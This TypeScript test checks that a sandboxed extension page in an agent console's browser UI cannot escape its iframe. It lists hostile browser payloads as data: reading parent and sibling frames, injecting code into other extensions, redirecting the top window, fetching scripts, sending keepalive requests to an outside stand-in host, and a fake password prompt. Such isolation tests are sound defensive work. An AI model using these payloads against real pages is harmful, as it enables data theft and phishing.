import { createServer, type AddressInfo } from 'node:net'
import t from 'tap'
import { withChromium } from '../../support/browser/browser.js'
import { CONSOLE_GROUPS, fullBrowser, ownerTab } from '../../support/browser/console.js'
import { approvePending, daemonWithBackends, listedUntil, writeExtension } from '../../plugins/extensions/support.js'

/**
 * What a page of an extension tries beyond its frame, each as the source of an expression; its value, or what its
 * promise gives, is what it got. `OUTSIDE` is a server of somebody else, `DAEMON` the sandbox.
 */
const ATTEMPTS: { readonly [what: string]: string } = {
  'a service worker': `navigator.serviceWorker.register('DAEMON/console/service-worker.js')`,
  'a shared worker': `new SharedWorker('DAEMON/console/service-worker.js') && 'made'`,
  'a worker from elsewhere': `quick(new Promise((done, no) => { const w = new Worker('http://OUTSIDE/w.js');
    w.onerror = no; w.onmessage = done }))`,
  'a channel to the tabs of the console': `quick(new Promise(done => { const c =
    new BroadcastChannel('sandbox'); c.onmessage = e => done(e.data); c.postMessage({ kind: 'session' }) }))`,
  'locks and caches': `caches.open('x').then(() => 'opened')`,
  'private files': `navigator.storage.getDirectory().then(() => 'opened')`,
  'session storage': `sessionStorage.length + ' items'`,
  'cookies of the store': `cookieStore.getAll().then(all => all.length + ' cookies')`,
  'the document above': `parent.document.body.innerText`,
  'the address above': `parent.location.href`,
  'variables above': `parent.history.length`,
  'the element around it': `String(frameElement.id)`,
  'an answer to a message above': `quick(new Promise(done => { onmessage = e => done(e.data); for (const m of [{
    kind: 'session' }, 'token', { ask: 1, kind: 'call', entry: 'GET /agents' }]) parent.postMessage(m, '*') }))`,
  'the pages of others': `Array.from({ length: parent.length }, (_, at) => parent[at]).filter(each => each !==
    self).map(each => each.document.body.innerText)`,
  'code in the pages of others': `(Array.from({ length: parent.length }, (_, at) => parent[at]).filter(each =>
    each !== self).forEach(each => { const c = new MessageChannel(); each.postMessage({ code:
    'parent.postMessage("taken", "*")', start: { theme: 'dark' } }, '*', [c.port2]); each.location =
    'http://OUTSIDE/other' }), quick(new Promise(() => {})))`,
  'the top, by its location': `(top.location.href = 'http://OUTSIDE/top')`,
  'the top, by its fragment': `(top.location.hash = '#/secrets')`,
  'the top, by replacing': `top.location.replace('http://OUTSIDE/top')`,
  'the top, by a link': `(Object.assign(document.body.appendChild(document.createElement('a')), { href:
    'http://OUTSIDE/a', target: '_top' }).click(), quick(new Promise(() => {})))`,
  'the top, by a form': `(Object.assign(document.body.appendChild(document.createElement('form')), { action:
    'DAEMON/agents', method: 'post', target: '_top' }).submit(), quick(new Promise(() => {})))`,
  'the top, by a base': `(document.head.append(Object.assign(document.createElement('base'), { href:
    'http://OUTSIDE/', target: '_top' })), document.baseURI.includes('OUTSIDE') ? document.baseURI :
    quick(new Promise(() => {})))`,
  'a script as address': `(Object.assign(document.body.appendChild(document.createElement('a')), { href:
    'javascript:parent.owned=1', target: '_parent' }).click(), quick(new Promise(() => {})))`,
  'a window': `open('DAEMON/', 'x', 'popup').name + 'opened'`,
  'a window of the same name': `open('DAEMON/', '_parent').name + 'opened'`,
  'a download': `(Object.assign(document.body.appendChild(document.createElement('a')), { href:
    URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click(), quick(new Promise(() => {})))`,
  'a dialog': `prompt('Your password?') === null ? Promise.reject(new Error('refused')) : 'asked'`,
  'the clipboard': `navigator.clipboard.readText()`,
  'a notification': `Notification.requestPermission().then(found => found === 'granted' ? found :
    Promise.reject(new Error(found)))`,
  'the place of the person': `quick(new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no)))`,
  'a camera': `navigator.mediaDevices.getUserMedia({ video: true })`,
  'the whole screen': `document.documentElement.requestFullscreen().then(() => 'full')`,
  'the storage of the site': `document.requestStorageAccess().then(() => 'given')`,
  'a frame of the console': `framed('DAEMON/')`,
  'a frame of its own address': `framed('DAEMON/console/frame.html')`,
  'a frame of another extension': `framed('DAEMON/x/eve.quiet/secret')`,
  'a frame of elsewhere': `framed('http://OUTSIDE/frame')`,
  'a frame with text of its own': `framed(undefined, '<script>parent.inner = 1</' + 'script>').then(() =>
    self.inner ? 'ran' : Promise.reject(new Error('not run')))`,
  'an object of the console': `embedded('object', 'data', 'DAEMON/')`,
  'an embedded page': `embedded('embed', 'src', 'DAEMON/openapi.json')`,
  'a script of elsewhere': `embedded('script', 'src', 'http://OUTSIDE/x.js')`,
  'a script of the daemon': `embedded('script', 'src', 'DAEMON/openapi.json')`,
  'a module of elsewhere': `import('http://OUTSIDE/m.js')`,
  'a module of data': `import('data:text/javascript,export default 1')`,
  'a style of elsewhere': `embedded('link', 'href', 'http://OUTSIDE/x.css', { rel: 'stylesheet' })`,
  'a picture of elsewhere in a style': `(document.body.style.backgroundImage = 'url(http://OUTSIDE/s.png)',
    quick(new Promise(() => {})))`,
  'a font of elsewhere': `new FontFace('x', 'url(http://OUTSIDE/x.woff)').load()`,
  'a request with credentials': `fetch('DAEMON/agents', { credentials: 'include' }).then(({ status }) => status)`,
  'a request without an origin': `fetch('DAEMON/agents', { mode: 'no-cors' }).then(({ type }) => type)`,
  'a request that is kept alive': `fetch('http://OUTSIDE/', { method: 'POST', body: 'x', keepalive:
    true }).then(() => 'sent')`,
  'a stream of events': `quick(new Promise((done, no) => { const s = new EventSource('DAEMON/events');
    s.onopen = done; s.onerror = no }))`,
  'a transport': `new WebTransport('https://OUTSIDE/').ready.then(() => 'ready')`,
  'a payment': `quick(new PaymentRequest([{ supportedMethods: 'https://OUTSIDE/pay' }], { total: { label: 'x',
    amount: { currency: 'EUR', value: '1' } } }).canMakePayment())`,
  'a report': `new ReportingObserver(() => {}).observe() ?? Promise.reject(new Error('only here'))`,
  'the ping of a link': `(Object.assign(document.body.appendChild(document.createElement('a')), { href: '#x',
    ping: 'http://OUTSIDE/ping' }).click(), quick(new Promise(() => {})))`,
}

const PAGE = (attempts: object, daemon: string, outside: string): string =>
  `
const within = (ms, work) => Promise.race([work, new Promise((_, no) => setTimeout(no, ms, new Error('nothing came')))])
const quick = work => within(1500, work)
const framed = (src, srcdoc) => quick(new Promise((done, no) => {
  const frame = Object.assign(document.createElement('iframe'), src ? { src } : { srcdoc })
  frame.onload = () => { try { done(frame.contentDocument.body.innerText || 'loaded') } catch (error) { src ?
    no(error) : done() } }
  frame.onerror = no
  document.body.append(frame)
}))
const embedded = (name, field, address, more = {}) => quick(new Promise((onload, no) =>
  document.head.append(Object.assign(document.createElement(name), { onload: () => onload('loaded'), onerror:
    () => no(new Error('refused')), ...more, [field]: address }))))
export const activate = async host => {
  const got = {}
  const control = { 'what its frame lets it do': () => URL.createObjectURL(new Blob(['x'])).slice(0, 5) }
  const attempts = {${Object.entries(attempts)
    .map(([what, code]) => `${JSON.stringify(what)}: () => ${code}`)
    .join(',\n')}}
  await Promise.all(Object.entries({ ...control, ...attempts }).map(async ([what, attempt]) => {
    try { got[what] = String(await within(20_000, attempt())).slice(0, 200) } catch { }
  }))
  document.body.append(Object.assign(document.createElement('p'), { id: 'got', textContent: JSON.stringify(got) }))
}`
    .replaceAll('DAEMON', daemon)
    .replaceAll('OUTSIDE', outside)

t.setTimeout(240_000)

t.test(
  'a page of an extension reaches nothing beyond its frame, beside the page of another',
  withChromium(),
  async t => {
    const daemon = await daemonWithBackends(t, [...CONSOLE_GROUPS, 'workspace'])
    const connections: string[] = []
    const server = createServer(socket => {
      socket.on('error', () => {})
      socket.once('data', bytes => (connections.push(bytes.toString('latin1').split('\r\n')[0]!), socket.destroy()))
    })
    await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
    t.teardown(() => server.close())
    const outside = `127.0.0.1:${(server.address() as AddressInfo).port}`
    const side = (label: string) => ({ sideViews: [{ id: 'side', label, beside: 'file' }] })
    const add = async (name: string, page: string) => {
      const manifest = { publisher: 'eve', name, entry: 'page.js', contributes: side(`Page of ${name}`) }
      writeExtension(daemon, name, manifest, { 'page.js': page })
      await listedUntil(daemon, ({ pending }) => pending.find(each => each.id === `eve.${name}`))
      await approvePending(daemon, `eve.${name}`)
      await listedUntil(daemon, ({ extensions }) => extensions.find(each => each.id === `eve.${name}`))
    }
    await add(
      'quiet',
      `export const activate = () => {
    document.body.append(Object.assign(document.createElement('p'), { id: 'quiet', textContent:
    'the secret of the other' }))
  }`,
    )
    await add('hostile', PAGE(ATTEMPTS, daemon.url, outside))
    const browser = await fullBrowser(t)
    const { page } = await ownerTab(browser, daemon, '#/files/open/README.md')
    const [dialogs, downloads, windows]: [string[], string[], string[]] = [[], [], []]
    page.on('dialog', dialog => (dialogs.push(dialog.message()), void dialog.dismiss()))
    page.on('download', download => downloads.push(download.url()))
    page.context().on('page', opened => windows.push(opened.url()))
    const before = page.url()
    for (const name of ['quiet', 'hostile']) await page.locator('summary', { hasText: `Page of ${name}` }).click()
    const frame = (name: string) => page.frameLocator(`iframe[title*="Page of ${name}"]`)
    await frame('quiet').locator('#quiet').waitFor()
    const got = JSON.parse((await frame('hostile').locator('#got').textContent({ timeout: 60_000 }))!) as object
    t.same(got, { 'what its frame lets it do': 'blob:' }, 'every attempt is refused')
    t.same(connections, [], 'nothing connects to a server outside')
    t.same([dialogs, downloads, windows], [[], [], []])
    t.equal(page.url(), before, 'the console is where it was')
    t.equal(await page.evaluate('window.owned'), undefined)
    t.match(await frame('quiet').locator('body').innerText(), /^the secret of the other$/)
    t.equal(await page.locator('iframe').count(), 2, 'both pages are there')
  },
)
